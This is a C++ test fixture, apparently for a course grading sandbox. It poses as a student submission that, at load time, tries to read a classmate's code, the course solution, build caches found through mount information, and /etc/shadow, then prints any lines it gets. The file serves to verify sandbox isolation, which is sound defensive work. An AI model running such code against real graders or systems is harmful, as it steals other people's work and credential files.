// ATTACK read_other: a correct submission that reads a classmate's main.cu and the course's
// solution at run time, and the course's build (in --out, or in the course cache that grade.sh
// keeps between runs: at its real path, and beside the prebuilt libraries its sandbox shows), and
// prints what it found (the grader must never show a LEAKED line).
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
namespace attack {
void leak(const std::string& p) {
    std::ifstream f(p);
    std::string line;
    if (std::getline(f, line)) std::printf("LEAKED %s: %s\n", p.c_str(), line.c_str());
}
const bool done = [] {
    leak("@SUBMISSIONS@/atk00 victim/01_naive_transpose/main.cu");
    leak("@COURSE@/lessons/01_naive_transpose/main.cu");
    leak("@OUT@/common/CMakeCache.txt");
    std::error_code ec;
    for (auto it = std::filesystem::directory_iterator("@CACHE@", ec); !ec && it != std::filesystem::directory_iterator(); it.increment(ec))
        leak((it->path() / "common" / "CMakeCache.txt").string());
    std::ifstream mounts("/proc/self/mountinfo");
    for (std::string line; std::getline(mounts, line);) {
        std::istringstream s(line);
        std::string id, parent, dev, root, point;
        if (s >> id >> parent >> dev >> root >> point && point.size() > 9 && point.rfind("/prebuilt") == point.size() - 9)
            leak(point + "/../common/CMakeCache.txt");
    }
    leak("/etc/shadow");
    return true;
}();
}  // namespace attack
